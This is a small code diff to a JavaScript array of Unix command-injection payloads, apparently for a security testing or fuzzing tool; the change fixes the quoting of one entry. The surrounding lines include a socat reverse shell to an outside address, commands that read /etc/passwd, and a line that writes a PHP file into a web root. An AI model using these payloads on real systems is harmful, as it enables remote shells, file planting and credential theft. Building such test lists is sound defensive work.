@@ -262,7 +262,7 @@ const osUnix = [
   `;socat tcp:10.1.1.1:443 exec:sh`,
   `;awk 'BEGIN {system("id")}'`,
   `;printf 'x' > /var/www/html/x.php`,
-  `x;ls${'${IFS}'}-l`,
+  'x;ls${IFS}-l',
   `;tac /etc/passwd`,
   `;cat</etc/passwd`,
   `;rev<<<'di'|sh`,
